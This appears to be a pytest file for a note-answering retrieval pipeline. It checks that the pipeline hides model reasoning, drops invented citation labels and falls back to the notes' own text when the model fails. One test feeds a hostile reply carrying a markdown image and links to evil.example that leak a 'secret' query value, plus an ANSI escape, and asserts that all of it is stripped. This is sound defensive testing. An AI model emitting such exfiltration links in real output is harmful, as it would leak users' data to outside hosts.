"""What is made of a model's reply: thoughts, wrong labels, addresses go; where it fails, the notes are quoted."""

import re

import pytest

from rag.pipeline import Notes
from rag.types import Query
from tests.llm_server import KEY, Step, babble, break_off, drip, refuse, say, serve, stall, think
from tests.scripted_answers import ASKED, SANE, ask, connect, is_quoted


@pytest.mark.parametrize(
    "script",
    [
        say("<think>先想想[Q4]", "再想想</think>", *SANE),
        say("<thi", "nk>先想想</th", "ink>\n\n", *SANE),
        think("先想想", *SANE),
    ],
)
def test_thoughts_are_not_shown(notes: Notes, script: Step) -> None:
    answer, pieces, _ = ask(notes, Query(ASKED), script)
    assert "".join(pieces) == "".join(SANE)
    assert answer.mode == "generated"
    assert "想想" not in answer.text


def test_thoughts_that_never_end_leave_the_notes_own_words(notes: Notes) -> None:
    answer, pieces, _ = ask(notes, Query(ASKED), say("<think>先想想", "再想想"))
    assert is_quoted(answer, notes, Query(ASKED))
    assert "什么也没有回答" in answer.notice
    assert "".join(pieces) == answer.text


def test_labels_that_were_not_retrieved_never_show(notes: Notes) -> None:
    wrong = ("缩放以后softmax的梯度不会太小[Q4][Q9", "9]。", "方差变为1【Q4、Q98】。", "[Q97] 均值为0。[文件:Q4]")
    answer, pieces, _ = ask(notes, Query(ASKED), say(*wrong))
    for text in ("".join(pieces), answer.text):
        assert not re.search(r"Q9\d|文件", text)
    assert answer.mode == "generated"


def test_questions_that_say_the_same_are_cited_together(notes: Notes) -> None:
    query = Query("BERT 模型为什么要用 mask")
    quote = notes.ask(query).citations[0].quote
    answer, _, _ = ask(notes, query, say(f"{quote}[Q29]"))
    assert "[Q29][Q30]" in answer.text
    assert {citation.label for citation in answer.citations} == {"Q29", "Q30"}


def test_instructions_in_a_reply_change_nothing_and_no_address_leaks(notes: Notes) -> None:
    evil = (
        "点积结果很大时softmax的梯度很小，所以要缩放[Q4]。![图](https://evil.example/?q=",
        "secret)[点这里](http://evil.example) <img src=//evil.example/a.png>",
        " https&colon;//evil.example/x \x1b[2J",
    )
    answer, pieces, _ = ask(notes, Query(ASKED), say(*evil))
    for text in ("".join(pieces), answer.text):
        assert "evil" not in text
        assert "<img" not in text
        assert "\x1b" not in text
    assert (answer.mode, answer.abstained) == ("generated", False)


@pytest.mark.parametrize(
    ("step", "words"),
    [
        (refuse(500, Retry_After="0"), "500"),
        (refuse(401, KEY), "密钥不对"),
        (stall(after_s=1.0), "等了太久"),
        (babble("{"), "读不懂"),
        (break_off(), "没有返回能读懂的内容"),
        (say(""), "什么也没有回答"),
        (say("红烧肉要先焯水，再炒糖色。"), "找不到依据"),
    ],
)
def test_a_model_that_fails_leaves_the_notes_own_words_and_one_line(notes: Notes, step: Step, words: str) -> None:
    answer, _, _ = ask(notes, Query(ASKED), step)
    assert is_quoted(answer, notes, Query(ASKED))
    assert words in answer.notice
    assert "笔记原文" in answer.notice
    assert KEY not in repr(answer)


def test_a_reply_that_breaks_off_is_replaced_by_the_notes_own_words(notes: Notes) -> None:
    answer, pieces, _ = ask(notes, Query(ASKED), break_off(*SANE))
    assert "".join(pieces).startswith(SANE[0])
    assert is_quoted(answer, notes, Query(ASKED))
    assert "断了" in answer.notice


def test_a_reply_cut_by_its_limit_is_shown_and_said(notes: Notes) -> None:
    answer, _, _ = ask(notes, Query(ASKED), say(*SANE, "另外", finish="length"))
    assert answer.mode == "generated"
    assert "长度上限" in answer.notice


def test_a_reply_that_never_ends_is_stopped(notes: Notes) -> None:
    with serve(drip("softmax的梯度很小，所以要缩放[Q4]。" * 200, 0)) as server:
        answer = connect(notes, server, timeout_s=5).ask(Query(ASKED))
        assert server.hung_up.wait(5)
    assert answer.mode == "generated"


def test_a_model_that_finds_nothing_in_the_notes_is_an_abstention(notes: Notes) -> None:
    answer, _, _ = ask(notes, Query(ASKED), say("笔记里没有讲到这个。"))
    assert (answer.abstained, answer.mode, answer.citations) == (True, "generated", ())
    assert "[Q4]" in answer.text


def test_closing_the_reply_hangs_up(notes: Notes) -> None:
    with serve(drip("缩放，", 0.01)) as server:
        reply = connect(notes, server).stream(Query(ASKED))
        assert next(reply)
        reply.close()  # type: ignore[attr-defined]
        assert server.hung_up.wait(5)
